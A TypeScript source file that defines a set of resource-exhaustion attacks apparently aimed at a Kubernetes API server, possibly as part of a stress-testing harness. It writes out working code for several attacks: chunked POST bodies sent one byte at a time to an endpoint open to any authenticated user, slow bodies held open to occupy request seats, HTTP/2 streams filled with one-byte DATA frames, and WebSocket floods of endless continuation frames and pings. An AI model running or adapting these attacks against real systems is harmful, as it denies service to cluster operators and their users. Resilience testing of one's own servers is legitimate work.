import { type Attack, pause, repeat, type Target } from "../attack.js";
import { dial, type RawConnection, requestText } from "../raw-connection.js";
import { authorizedPost, frame, preface } from "./http2-frames.js";

/** Open to every authenticated user, whatever its rights. */
const review = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const chunk = Buffer.from("1\r\n \r\n".repeat(10_000), "latin1");
/** Bytes of a body at most, and so the chunks of one byte that a request can have. */
const maxBodyBytes = 3 * 1024 * 1024;

/** Writes as fast as the server takes it; false once the connection is gone. */
async function write({ socket, closed }: RawConnection, bytes: Uint8Array, signal: AbortSignal): Promise<boolean> {
  if (signal.aborted || socket.destroyed) return false;
  if (socket.write(bytes)) await new Promise((resolve) => setImmediate(resolve));
  else await Promise.race([closed, new Promise((resolve) => socket.once("drain", resolve)), pause(1000, signal)]);
  return !signal.aborted && !socket.destroyed;
}

async function openSocket(target: Target, signal: AbortSignal): Promise<RawConnection> {
  const connection = await dial(target, signal);
  const headers =
    "Origin: https://x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
  connection.write(
    requestText(target, { path: "/api/v1/namespaces/default/configmaps?watch=1&resourceVersion=0", headers }),
  );
  await connection.answered;
  return connection;
}

/** Masked with zeros; the first begins a message that never ends. */
const webSocketFrames = (first: number, later: number, payload: string): { begin: Buffer; more: Buffer } => {
  const frameOf = (opcode: number): string => `${String.fromCharCode(opcode, 0x80 | payload.length)}\0\0\0\0${payload}`;
  return {
    begin: Buffer.from(frameOf(first), "latin1"),
    more: Buffer.from(frameOf(later).repeat(5_000), "latin1"),
  };
};

const webSocketFlood = (name: string, first: number, later: number, payload: string): Attack => ({
  name,
  run: (target, signal) =>
    repeat(signal, 4, async () => {
      const connection = await openSocket(target, signal);
      const { begin, more } = webSocketFrames(first, later, payload);
      await write(connection, begin, signal);
      while (await write(connection, more, signal));
    }),
});

/** Input that is cut into the smallest pieces, or into pieces without bytes. */
export const fragmentAttacks: readonly Attack[] = [
  {
    name: "bodies of 3 MiB in chunks of one byte",
    run: (target, signal) =>
      repeat(signal, 8, async () => {
        const connection = await dial(target, signal);
        const headers = "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n";
        connection.write(requestText(target, { method: "POST", path: review, headers }));
        for (let sent = 0; sent < maxBodyBytes - 10_000; sent += 10_000)
          if (!(await write(connection, chunk, signal))) return;
        await pause(500, signal);
        connection.socket.destroy();
      }),
  },
  {
    name: "200 bodies in chunks of one byte that wait for seats",
    run: (target, signal) =>
      repeat(signal, 200, async () => {
        const connection = await dial(target, signal);
        const headers = "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n";
        connection.write(requestText(target, { method: "POST", path: review, headers }));
        for (let sent = 0; sent < 70_000; sent += 10_000) if (!(await write(connection, chunk, signal))) return;
        await pause(60_000, signal);
        connection.socket.destroy();
      }),
  },
  {
    name: "100 streams with DATA frames of one byte",
    run: (target, signal) =>
      repeat(signal, 2, async () => {
        const connection = await dial(target, signal, "h2");
        connection.write(preface);
        const streams = Array.from({ length: 100 }, (_, at) => 2 * at + 1);
        for (const stream of streams) connection.write(frame(1, 4, stream, authorizedPost(target, review)));
        // All of the windows that the server announces: 256 KiB of each stream.
        for (let turn = 0; turn < 26; turn++)
          for (const stream of streams) {
            const frames = Buffer.concat(Array.from({ length: 10_000 }, () => frame(0, 0, stream, Buffer.from(" "))));
            if (!(await write(connection, frames, signal))) return;
          }
        connection.socket.destroy();
      }),
  },
  webSocketFlood("WebSocket: a message that continues without bytes", 0x02, 0x00, ""),
  webSocketFlood("WebSocket: a message that continues byte by byte", 0x02, 0x00, "x"),
  webSocketFlood("WebSocket: pings", 0x89, 0x89, "x"),
];
